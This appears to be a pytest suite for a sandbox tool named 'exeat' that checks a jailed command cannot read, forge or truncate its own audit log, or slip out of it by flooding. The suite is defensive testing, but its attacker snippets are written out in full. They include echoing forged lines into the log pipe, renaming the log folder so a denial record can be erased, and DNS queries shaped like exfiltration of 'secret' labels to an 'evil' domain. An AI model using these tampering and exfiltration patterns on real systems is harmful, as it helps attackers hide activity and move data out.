"""The command against its own record: seeing the log, changing it, or leaving no trace in it."""

from __future__ import annotations

import json
import subprocess
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from tests.support.runs.running import AS_ROOT, BY_USER, as_user, exeat, folder_of, python

_OPEN = """
import sys
for path in sys.argv[1:]:
    for mode in ("rb", "r+b"):
        try:
            open(path, mode).close()
        except OSError as error:
            print(mode, "failed", error.strerror)
        else:
            print(mode, "OPENED", path)
"""


def records(log: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in log.read_text().splitlines()]


def denied_hosts(log: Path) -> set[str]:
    return {each["host"] for each in records(log) if each["event"] == "decision" and each["verdict"] == "deny"}


def opens(path: Path, uid: int | None) -> bool:
    """Can this user open the file outside? If not, a failure inside would show nothing."""
    tried = subprocess.check_output([*as_user(uid), *python(_OPEN, str(path))], text=True)
    return "r+b OPENED" in tried


@pytest.mark.threat("T-J1")
@BY_USER
def test_a_log_that_was_there_before_is_out_of_reach(uid: int | None) -> None:
    with folder_of(uid) as folder:
        log = folder / "audit.jsonl"
        for turn in range(2):
            done = exeat("--audit", str(log), command=python(_OPEN, str(log)), uid=uid, cwd=folder)
            if turn:
                assert "OPENED" not in done.stdout
        assert opens(log, uid)


@pytest.mark.threat("T-J1")
@BY_USER
def test_a_log_that_is_new_is_out_of_reach(uid: int | None) -> None:
    """It is made after the view of the jail has been built, and before the command starts."""
    with folder_of(uid) as folder:
        log = folder / "audit.jsonl"
        done = exeat("--audit", str(log), command=python(_OPEN, str(log)), uid=uid, cwd=folder)
        assert opens(log, uid)
        assert "OPENED" not in done.stdout


@contextmanager
def mounted_twice(folder: Path, again: Path) -> Iterator[None]:
    subprocess.run(["mount", "--bind", folder, again], check=True)
    try:
        yield
    finally:
        subprocess.run(["umount", again], check=True)


@pytest.mark.threat("T-J1")
@AS_ROOT
@BY_USER
def test_a_log_is_out_of_reach_by_a_second_mount_too(uid: int | None) -> None:
    with folder_of(uid) as folder, folder_of(uid) as again, mounted_twice(folder, again):
        log = folder / "audit.jsonl"
        exeat("--audit", str(log), command=["true"], uid=uid, cwd=folder)
        assert opens(again / log.name, uid)
        done = exeat("--audit", str(log), command=python(_OPEN, str(again / log.name)), uid=uid, cwd=folder)
        assert "OPENED" not in done.stdout


@pytest.mark.threat("T-J1")
@BY_USER
def test_a_log_with_a_second_name_is_not_used(uid: int | None) -> None:
    """An earlier command may have made one, at a time when no one hid the file: `ln audit.jsonl mine`."""
    with folder_of(uid) as folder:
        log, second = folder / "audit.jsonl", folder / "second"
        exeat("--audit", str(log), command=["true"], uid=uid, cwd=folder)
        subprocess.run([*as_user(uid), "ln", log, second], check=True)
        assert opens(second, uid)
        done = exeat("--audit", str(log), command=python(_OPEN, str(second)), uid=uid, cwd=folder)
        assert "OPENED" not in done.stdout


@pytest.mark.threat("T-J1")
@BY_USER
def test_a_pipe_for_the_log_is_out_of_reach(uid: int | None) -> None:
    """Whoever opens it can put lines of their own between the true ones, or take true ones out."""
    with folder_of(uid) as folder:
        pipe = folder / "pipe"
        subprocess.run([*as_user(uid), "mkfifo", pipe], check=True)
        with subprocess.Popen(["cat", pipe], stdout=subprocess.PIPE, text=True) as reader:
            forge = ["sh", "-c", f"echo forged > {pipe}"]
            exeat("--audit", str(pipe), command=forge, uid=uid, cwd=folder)
            seen, _ = reader.communicate(timeout=20)
        assert '"event":"start"' in seen
        assert "forged" not in seen


_MOVE_FOLDER = """
import os, socket, sys, time
try:
    os.rename("logs", "old")
    os.mkdir("logs")
    open("logs/audit.jsonl", "x").close()
    os.chmod("logs/audit.jsonl", 0o600)
except OSError as error:
    print(error.strerror)
time.sleep(0.3)  # until the gateway looks at the name again
with socket.create_connection(("203.0.113.9", 80), 5) as conn:
    conn.sendall(b"GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
    conn.recv(1000)
time.sleep(0.3)
try:
    with open("logs/audit.jsonl", "r+") as log:
        print("SEEN" if "203.0.113.9" in log.read() else "not there")
        log.truncate(0)
except OSError as error:
    print(error.strerror)
"""


@pytest.mark.threat("T-J1")
@BY_USER
def test_the_log_does_not_follow_its_name_to_a_file_of_the_commands(uid: int | None) -> None:
    """The file is covered, but not its folder's name: move that, put an own file there, and take the denial out."""
    with folder_of(uid) as folder:
        logs = folder / "logs"
        subprocess.run([*as_user(uid), "mkdir", logs], check=True)
        log = logs / "audit.jsonl"
        exeat("--audit", str(log), command=["true"], uid=uid, cwd=folder)
        done = exeat("--audit", str(log), command=python(_MOVE_FOLDER), uid=uid, cwd=folder)
        assert "SEEN" not in done.stdout
        found = [each for each in (log, folder / "old" / "audit.jsonl") if each.exists()]
        assert any("203.0.113.9" in denied_hosts(each) for each in found)


# Leaving no trace

_MANY = 200
_ASK_AND_GO = f"""
import socket
asking = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for number in range({_MANY}):
    name = b"".join(bytes((len(label),)) + label for label in (b"secret%d" % number, b"evil", b"test"))
    asking.sendto(bytes((0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0)) + name + bytes((0, 0, 1, 0, 1)), ("127.0.0.1", 53))
"""
_CONNECT_AND_GO = f"""
import socket
open_ones = []
for number in range({_MANY}):
    open_ones.append(socket.create_connection((f"203.0.113.{{number + 1}}", 80), 5))
    open_ones[-1].sendall(b"GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
"""
_WAIT = "\nimport time; time.sleep(2)\n"


@pytest.mark.threat("T-J5")
@pytest.mark.parametrize("program", [_ASK_AND_GO, _CONNECT_AND_GO], ids=["names", "connections"])
def test_what_was_asked_for_just_before_the_end_is_on_record(program: str, tmp_path: Path) -> None:
    """Nothing of it gets out, but the log is to say that it was tried."""
    waiting, going = tmp_path / "waiting.jsonl", tmp_path / "going.jsonl"
    exeat("--audit", str(waiting), command=python(program + _WAIT))
    assert len(denied_hosts(waiting)) == _MANY
    exeat("--audit", str(going), command=python(program))
    assert len(denied_hosts(going)) == _MANY


_SEND_DATAGRAMS = """
import socket, sys, time
sending = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for number in range(int(sys.argv[1])):
    try:
        sending.sendto(b"x", (f"203.0.113.{number + 1}", 4000))
    except OSError:
        pass
time.sleep(0.5)
"""


@pytest.mark.threat("T-J5")
@pytest.mark.parametrize("count", [20, 150])
def test_the_log_says_if_more_was_dropped_than_it_tells(count: int, tmp_path: Path) -> None:
    """Fifty junk packets a second blind it for whatever else is sent: then it must say that it was blind."""
    log = tmp_path / "audit.jsonl"
    exeat("--audit", str(log), command=python(_SEND_DATAGRAMS, str(count)))
    told = len(denied_hosts(log))
    assert told == count or any(each["event"] == "limit" for each in records(log)), f"{told} of {count}"
